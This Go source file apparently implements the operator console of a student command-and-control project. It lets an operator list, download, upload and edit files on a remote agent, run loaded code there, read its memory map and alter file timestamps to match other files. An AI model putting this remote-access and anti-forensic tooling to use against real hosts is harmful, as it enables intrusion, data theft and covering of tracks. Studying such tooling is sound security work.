package main

import (
	"bufio"
	"bytes"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/google/shlex"

	"github.com/schilltyler/capstone-0/internal/controller"
	"github.com/schilltyler/capstone-0/internal/protocol"
	"github.com/schilltyler/capstone-0/internal/protocol/stream"
)

var (
	errInputClosed = errors.New("controlctl: input closed")
	errUsage       = errors.New("usage")
)

const helpText = `commands:
  stats <path>                       file metadata
  ls <path>                          list a directory
  pwd                                agent working directory
  download <path>                    save a remote file under the downloads dir
  upload <local> <remote>            replace a remote file
  append <local> <remote>            append to a remote file
  bgrep [--hex] <path> <pattern>     search for a byte pattern
  sed <path> <search> <replace>      replace in place
  tailf <path>                       follow a file (Ctrl+C cancels)
  wc [-l|-w|-c] <path>               count lines, words, bytes
  hash <path> [djb2|blake3]          content hash
  touch <path> <atime> <mtime>       set timestamps (also --at/--mt, --copy-from)
  maps                               agent memory map
  run <path> [args...]               run a program on the agent
  help                               this text
  exit                               end the agent session
`

type repl struct {
	client       *controller.Client
	out          io.Writer
	downloadsDir string
	interrupts   <-chan os.Signal
	now          func() time.Time
}

// session runs the rc file, the on-connect command, then interactive input
// until exit or a transport failure.
func (r *repl) session(input *bufio.Scanner, rcFile, oncon string) error {
	fmt.Fprintln(r.out, "connected, type 'help' for commands")
	if rcFile != "" {
		if done, err := r.runFile(rcFile); done || err != nil {
			return err
		}
	}
	if oncon != "" {
		if done, err := r.execute(oncon); done || err != nil {
			return err
		}
	}
	for {
		fmt.Fprint(r.out, "agent> ")
		if !input.Scan() {
			if err := input.Err(); err != nil {
				return err
			}
			return errInputClosed
		}
		done, err := r.execute(input.Text())
		if done || err != nil {
			return err
		}
	}
}

func (r *repl) runFile(path string) (bool, error) {
	f, err := os.Open(path)
	if err != nil {
		fmt.Fprintf(r.out, "rc file: %v\n", err)
		return false, nil
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for n := 1; sc.Scan(); n++ {
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		fmt.Fprintf(r.out, "[rc:%d] %s\n", n, line)
		if done, err := r.execute(line); done || err != nil {
			return done, err
		}
	}
	return false, sc.Err()
}

// execute runs one command line. done is true after exit. Remote and usage
// errors are printed; only transport failures are returned.
func (r *repl) execute(line string) (done bool, err error) {
	parts, err := shlex.Split(line)
	if err != nil {
		fmt.Fprintf(r.out, "parse: %v\n", err)
		return false, nil
	}
	if len(parts) == 0 {
		return false, nil
	}
	name, args := strings.ToLower(parts[0]), parts[1:]

	switch name {
	case "exit":
		return true, r.client.Exit()
	case "help":
		fmt.Fprint(r.out, helpText)
		return false, nil
	}

	err = r.dispatch(name, args)
	switch {
	case err == nil:
	case errors.Is(err, errUsage):
		fmt.Fprintf(r.out, "%v\n", err)
	case errors.Is(err, stream.ErrRemoteError):
		fmt.Fprintf(r.out, "error: %s\n", strings.TrimPrefix(err.Error(), stream.ErrRemoteError.Error()+": "))
	case protocol.IsFatal(err):
		fmt.Fprintf(r.out, "connection error: %v\n", err)
		return true, err
	default:
		fmt.Fprintf(r.out, "error: %v\n", err)
	}
	return false, nil
}

func (r *repl) dispatch(name string, args []string) error {
	switch name {
	case "stats":
		return r.single(protocol.CmdGetStats, args, 1, "stats <path>")
	case "pwd":
		return r.single(protocol.CmdPrintWorkingDir, nil, 0, "pwd")
	case "wc":
		return r.single(protocol.CmdWordCount, args, 1, "wc [-l|-w|-c] <path>")
	case "hash":
		return r.single(protocol.CmdContentHash, args, 1, "hash <path> [djb2|blake3]")
	case "touch":
		return r.single(protocol.CmdSetTimestamps, args, 2, "touch <path> <atime> <mtime>")
	case "ls":
		return r.print(protocol.CmdListDirectory, args, 1, "ls <path>")
	case "sed":
		return r.print(protocol.CmdStreamEdit, args, 3, "sed <path> <search> <replace>")
	case "maps":
		return r.print(protocol.CmdReadProcMaps, nil, 0, "maps")
	case "run":
		return r.print(protocol.CmdRunLoadedCode, args, 1, "run <path> [args...]")
	case "bgrep":
		return r.bgrep(args)
	case "tailf":
		return r.tail(args)
	case "download":
		return r.download(args)
	case "upload":
		return r.transfer(args, "upload <local> <remote>", r.client.Upload)
	case "append":
		return r.transfer(args, "append <local> <remote>", r.client.Append)
	default:
		return fmt.Errorf("%w: unknown command %q, type 'help'", errUsage, name)
	}
}

func usage(text string) error {
	return fmt.Errorf("%w: %s", errUsage, text)
}

func (r *repl) single(cmd protocol.Command, args []string, want int, text string) error {
	if len(args) < want {
		return usage(text)
	}
	out, err := r.client.Call(cmd, protocol.JoinArgs(args...))
	if err != nil {
		return err
	}
	fmt.Fprintln(r.out, string(out))
	return nil
}

func (r *repl) print(cmd protocol.Command, args []string, want int, text string) error {
	if len(args) < want {
		return usage(text)
	}
	return r.client.Stream(cmd, protocol.JoinArgs(args...), func(p []byte) error {
		_, err := r.out.Write(p)
		return err
	})
}

func (r *repl) bgrep(args []string) error {
	isHex := len(args) > 0 && args[0] == "--hex"
	if isHex {
		args = args[1:]
	}
	if len(args) < 2 {
		return usage("bgrep [--hex] <path> <pattern>")
	}
	pattern := args[1]
	if isHex {
		if _, err := hex.DecodeString(pattern); err != nil {
			return fmt.Errorf("%w: invalid hex pattern: %v", errUsage, err)
		}
	} else {
		pattern = hex.EncodeToString([]byte(pattern))
	}
	return r.print(protocol.CmdSearchPattern, []string{args[0], pattern}, 2, "")
}

// tail follows a remote file until the operator interrupts, then sends
// cancel and drains the terminal frame.
func (r *repl) tail(args []string) error {
	if len(args) < 1 {
		return usage("tailf <path>")
	}
	stop := make(chan struct{})
	defer close(stop)
	go func() {
		select {
		case <-r.interrupts:
			_ = r.client.Cancel()
		case <-stop:
		}
	}()
	err := r.print(protocol.CmdTailFollow, args[:1], 1, "")
	if errors.Is(err, stream.ErrRemoteError) && strings.HasSuffix(err.Error(), protocol.Reason(protocol.ErrCancelled)) {
		fmt.Fprintln(r.out, "\ncancelled")
		return nil
	}
	return err
}

func (r *repl) download(args []string) error {
	if len(args) < 1 {
		return usage("download <path>")
	}
	var buf bytes.Buffer
	n, err := r.client.Download(args[0], &buf)
	if err != nil {
		return err
	}
	if err := os.MkdirAll(r.downloadsDir, 0o755); err != nil {
		return err
	}
	dst := filepath.Join(r.downloadsDir, downloadName(args[0], r.clock()))
	if err := os.WriteFile(dst, buf.Bytes(), 0o644); err != nil {
		return err
	}
	fmt.Fprintf(r.out, "downloaded %d bytes to %s\n", n, dst)
	return nil
}

func (r *repl) transfer(args []string, text string, send func(string, io.Reader) (string, error)) error {
	if len(args) < 2 {
		return usage(text)
	}
	f, err := os.Open(args[0])
	if err != nil {
		return err
	}
	defer f.Close()
	done, err := send(args[1], f)
	if err != nil {
		return err
	}
	fmt.Fprintln(r.out, done)
	return nil
}

func (r *repl) clock() time.Time {
	if r.now != nil {
		return r.now()
	}
	return time.Now()
}

// downloadName keeps only the base name of a remote path and stamps it so
// repeated downloads never overwrite each other.
func downloadName(remote string, at time.Time) string {
	name := filepath.Base(strings.ReplaceAll(remote, "\\", "/"))
	name = strings.ReplaceAll(name, "..", "")
	if name == "" || name == "." || name == "/" {
		name = "downloaded_file"
	}
	stamp := at.Format("20060102_150405")
	if ext := filepath.Ext(name); ext != "" && ext != name {
		return strings.TrimSuffix(name, ext) + "_" + stamp + ext
	}
	return name + "_" + stamp
}
